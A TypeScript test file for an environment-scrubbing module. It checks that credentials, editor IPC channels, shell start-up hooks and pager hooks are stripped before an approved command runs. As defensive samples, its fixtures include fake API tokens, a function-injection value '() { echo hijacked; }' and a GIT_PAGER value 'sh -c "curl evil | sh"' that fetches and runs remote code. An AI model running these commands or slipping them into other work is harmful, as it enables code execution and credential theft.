import { strict as assert } from 'node:assert';
import {
  FIXED_ENVIRONMENT,
  looksLikeCredentialValue,
  PROVIDER_CREDENTIAL_NAMES,
  removalReason,
  scrubEnvironment,
  type RemovalReason,
} from '../../../src/gate/execution/environmentScrub';

const BASE = {
  PATH: '/usr/local/bin:/usr/bin:/bin',
  HOME: '/home/dev',
  USER: 'dev',
  LANG: 'C.UTF-8',
  TERM: 'xterm-256color',
  SHELL: '/bin/bash',
  EDITOR: 'vi',
  NODE_ENV: 'development',
  KEYBOARD_LAYOUT: 'us',
  SSL_CERT_FILE: '/etc/ssl/certs/ca-certificates.crt',
  HTTPS_PROXY: 'http://proxy.internal:3128',
  XDG_RUNTIME_DIR: '/run/user/1000',
};

describe('environment scrub: what an approved command may see (D§13)', () => {
  describe('credentials by name are removed', () => {
    const names = [
      ...PROVIDER_CREDENTIAL_NAMES,
      // The suffixes D§13 names, on made-up services.
      'ACME_API_KEY', 'ACME_TOKEN', 'ACME_SECRET', 'ACME_SECRET_ACCESS_KEY', 'ACME_PASSWORD',
      // And what the name rule shares with the redaction pass.
      'DB_PASSWD', 'GPG_PASSPHRASE', 'SERVICE_CREDENTIALS', 'ACME_APIKEY', 'SIGNING_PRIVATE_KEY', 'GPG_KEY', 'REGISTRY_PAT', 'SMTP_PASS',
      // Name fragments the scrub adds.
      'SLACK_WEBHOOK_URL', 'SESSION_COOKIE', 'AZURE_STORAGE_CONNECTION_STRING', 'SENTRY_DSN',
    ];
    for (const name of names) {
      it(name, () => {
        const result = scrubEnvironment({ ...BASE, [name]: 'value-that-is-long-enough' });
        assert.equal(result.env[name], undefined, `${name} reached the command`);
        assert.deepEqual(result.removed.find((r) => r.name === name), { name, reason: 'credential-name' });
      });
    }
  });

  it('keeps ordinary variables exactly', () => {
    const { env, removed } = scrubEnvironment(BASE);
    for (const [name, value] of Object.entries(BASE)) assert.equal(env[name], value, name);
    assert.deepEqual(removed, []);
  });

  describe('credentials by value are removed, whatever the name', () => {
    const cases: [string, string][] = [
      ['DATABASE_URL', 'postgres://app:hunter2hunter2@db.internal:5432/app'],
      ['UPSTREAM', 'https://user:pa55word@git.example.com/repo.git'],
      ['LLM_CONFIG', 'sk-proj-abcdefghijklmnopqrstuvwxyz012345'],
      ['CI_HEADER', 'Authorization: Bearer abcdefghijklmnop1234567890'],
      ['DEPLOY', 'ghp_abcdefghijklmnopqrstuvwxyz0123456789'],
      ['MAPS', 'AIzaSyA-abcdefghijklmnopqrstuvwxyz12345'],
    ];
    for (const [name, value] of cases) {
      it(`${name}=${value.slice(0, 14)}…`, () => {
        const result = scrubEnvironment({ ...BASE, [name]: value });
        assert.equal(result.env[name], undefined);
        assert.equal(result.removed.find((r) => r.name === name)?.reason, 'credential-value');
      });
    }

    it('a URL without a password, a path or a plain word is not a credential', () => {
      for (const value of ['https://registry.npmjs.org/', '/home/dev/.cache', 'development', 'git@github.com:org/repo.git', 'short']) {
        assert.equal(looksLikeCredentialValue(value), false, value);
      }
    });
  });

  describe('channels back into the editor are removed', () => {
    for (const name of ['VSCODE_IPC_HOOK_CLI', 'VSCODE_GIT_IPC_HANDLE', 'VSCODE_GIT_ASKPASS_MAIN', 'VSCODE_NONCE', 'ELECTRON_RUN_AS_NODE', 'GIT_ASKPASS', 'SSH_ASKPASS', 'SSH_ASKPASS_REQUIRE', 'SUDO_ASKPASS']) {
      it(name, () => assert.equal(removalReason(name, '/some/value'), 'editor-channel'));
    }
  });

  describe('shell start-up hooks are removed', () => {
    const cases: [string, RemovalReason][] = [
      ['BASH_ENV', 'shell-startup'],
      ['ENV', 'shell-startup'],
      ['SHELLOPTS', 'shell-startup'],
      ['BASHOPTS', 'shell-startup'],
      ['PROMPT_COMMAND', 'shell-startup'],
      ['PS4', 'shell-startup'],
      ['CDPATH', 'shell-startup'],
      ['GLOBIGNORE', 'shell-startup'],
      ['BASH_FUNC_ls%%', 'unusual-name'],
      ['my-var', 'unusual-name'],
      ['PWD', 'shell-state'],
      ['OLDPWD', 'shell-state'],
      ['SHLVL', 'shell-state'],
    ];
    for (const [name, reason] of cases) {
      it(`${name} (${reason})`, () => {
        const result = scrubEnvironment({ ...BASE, [name]: '() { echo hijacked; }' });
        assert.equal(result.env[name], undefined);
        assert.equal(result.removed.find((r) => r.name === name)?.reason, reason);
      });
    }
  });

  describe('pagers cannot stall a run or run a command', () => {
    it('every fixed value is set even when the editor has none', () => {
      const { env } = scrubEnvironment({ PATH: '/usr/bin' });
      for (const [name, value] of Object.entries(FIXED_ENVIRONMENT)) assert.equal(env[name], value, name);
      assert.equal(env.GIT_PAGER, 'cat');
      assert.equal(env.PAGER, 'cat');
      assert.equal(env.LESSSECURE, '1');
      assert.equal(env.GIT_TERMINAL_PROMPT, '0');
    });

    it('the editor\'s pagers are overridden and less\'s input hooks removed', () => {
      const { env, removed } = scrubEnvironment({
        ...BASE,
        PAGER: 'less',
        GIT_PAGER: 'sh -c "curl evil | sh"',
        BAT_PAGER: 'less -R',
        LESS: '-R',
        LESSOPEN: '| /usr/bin/lesspipe %s',
        LESSCLOSE: '/usr/bin/lesspipe %s %s',
      });
      assert.equal(env.PAGER, 'cat');
      assert.equal(env.GIT_PAGER, 'cat');
      assert.equal(env.LESS, '-FRX');
      for (const name of ['BAT_PAGER', 'LESSOPEN', 'LESSCLOSE']) {
        assert.equal(env[name], undefined, name);
        assert.equal(removed.find((r) => r.name === name)?.reason, 'pager-hook', name);
      }
    });
  });

  describe('passEnvironment', () => {
    it('lets a named credential through and says so', () => {
      const result = scrubEnvironment({ ...BASE, GITHUB_TOKEN: 'ghp_abcdefghijklmnopqrstuvwxyz0123456789', NPM_TOKEN: 'npm_secret_value_here' }, ['GITHUB_TOKEN']);
      assert.equal(result.env.GITHUB_TOKEN, 'ghp_abcdefghijklmnopqrstuvwxyz0123456789');
      assert.equal(result.env.NPM_TOKEN, undefined);
      assert.deepEqual(result.passed, ['GITHUB_TOKEN']);
      assert.deepEqual(result.removed.map((r) => r.name), ['NPM_TOKEN']);
    });

    it('cannot override a fixed value', () => {
      const { env } = scrubEnvironment({ ...BASE, PAGER: 'less' }, ['PAGER']);
      assert.equal(env.PAGER, 'cat');
    });

    it('ignores names a shell cannot use, and does not add absent variables', () => {
      const result = scrubEnvironment({ ...BASE, 'BASH_FUNC_ls%%': '() { :; }' }, ['BASH_FUNC_ls%%', 'NOT_SET_ANYWHERE', 'a b']);
      assert.equal(result.env['BASH_FUNC_ls%%'], undefined);
      assert.equal(result.env.NOT_SET_ANYWHERE, undefined);
      assert.deepEqual(result.passed, []);
    });

    it('is exact: the case of a name matters', () => {
      const result = scrubEnvironment({ ...BASE, GITHUB_TOKEN: 'value-that-is-long-enough' }, ['github_token']);
      assert.equal(result.env.GITHUB_TOKEN, undefined);
    });
  });

  it('reports names and reasons, never values', () => {
    const secret = 'sk-ant-api03-THIS-MUST-NOT-APPEAR-ANYWHERE-0000';
    const result = scrubEnvironment({ ...BASE, ANTHROPIC_API_KEY: secret, OTHER: secret });
    assert.ok(!JSON.stringify(result.removed).includes(secret));
    assert.ok(!JSON.stringify(result.env).includes(secret));
    assert.deepEqual(result.removed, [
      { name: 'ANTHROPIC_API_KEY', reason: 'credential-name' },
      { name: 'OTHER', reason: 'credential-value' },
    ]);
  });

  it('skips undefined entries (process.env may hold them) and returns a plain object', () => {
    const { env } = scrubEnvironment({ ...BASE, UNSET: undefined });
    assert.equal('UNSET' in env, false);
    assert.equal(Object.getPrototypeOf(env), Object.prototype);
  });
});
